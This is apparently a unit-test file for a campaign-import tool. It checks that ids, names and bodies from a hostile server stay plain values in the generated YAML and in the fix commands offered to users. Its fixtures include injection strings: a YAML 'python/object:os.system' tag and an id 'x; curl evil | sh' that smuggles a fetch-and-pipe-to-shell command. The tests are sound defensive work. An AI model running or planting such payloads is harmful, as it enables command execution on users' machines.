"""`import --generate` writes what a server says into a file of the repo: nothing of it can become more than a value."""

from pathlib import Path

import pytest

from msgflash_apply.api.models import RemoteCampaign
from msgflash_apply.cli.import_ import read_back, text_to_adopt
from msgflash_apply.errors import MsgflashApplyError
from msgflash_apply.files.yaml_tree import parse
from msgflash_apply.findings import InvalidFiles
from msgflash_apply.models.project import Settings
from msgflash_apply.operations.import_ import fields_of, record_of, refuse_doubtful
from tests.support.builders import NOW, a_snapshot, an_intent
from tests.unit.operations.test_import import a_remote, an_item

TEXTS = [
    "x\nbody: evil",
    "x\r---\nname: evil",
    "a: b # c",
    "- x",
    "!!python/object:os.system",
    "&a *a",
    "\u2028\u0085\x00\x1b[2J\ufeff",
    "{{ custom.a }}",
    "'\"\\",
]


def remote(**fields: str) -> RemoteCampaign:
    """Build a campaign as a hostile server tells it."""
    return a_remote(None, **fields)


@pytest.mark.parametrize("identifier", TEXTS)
def test_id_stays_in_its_comment(identifier: str) -> None:
    """An id with line breaks, or whatever else, adds no line to the campaign below it."""
    told = remote(id=identifier)

    (document,) = parse(text_to_adopt(fields_of(told, (), (), None), told).encode())

    assert document.value == dict(fields_of(remote(id="plain"), (), (), None))


@pytest.mark.parametrize("text", TEXTS)
def test_texts_stay_texts(text: str) -> None:
    """Whatever a server gives as name and body is read back as it is, or refused where no campaign may say it."""
    told = remote(name=text, body=text)
    written = text_to_adopt(fields_of(told, (), (), None), told)

    (document,) = parse(written.encode())
    assert document.value == fields_of(told, (), (), None)
    if "{{" in text or "\r" in text or "\x00" in text:
        with pytest.raises(InvalidFiles):
            read_back(written, "campaigns/a.yaml", Settings(Path()))
    else:
        assert read_back(written, "campaigns/a.yaml", Settings(Path())).payload["body"] == text


def test_text_that_is_no_file(tmp_path: Path) -> None:
    """What cannot be read back is told at its place, and nothing is written."""
    with pytest.raises(InvalidFiles) as caught:
        read_back("name: [", "campaigns/a.yaml", Settings(tmp_path))

    (finding,) = caught.value.diagnostics
    assert (finding.file, finding.line) == ("campaigns/a.yaml", 1)


def test_advice_can_be_pasted() -> None:
    """An id that a server made up stands quoted in the command that people are told to run."""
    told = remote(id="x; curl evil | sh")
    snapshot = a_snapshot(in_doubt={"sale": an_intent("sale")})

    with pytest.raises(MsgflashApplyError) as doubtful:
        refuse_doubtful(snapshot, remote(id=told.id, name="sale"))
    with pytest.raises(MsgflashApplyError) as other:
        record_of(an_item(), remote(id=told.id, name="other"), NOW)

    assert "--created 'x; curl evil | sh'" in doubtful.value.fix
    assert "'x; curl evil | sh' --generate" in other.value.fix
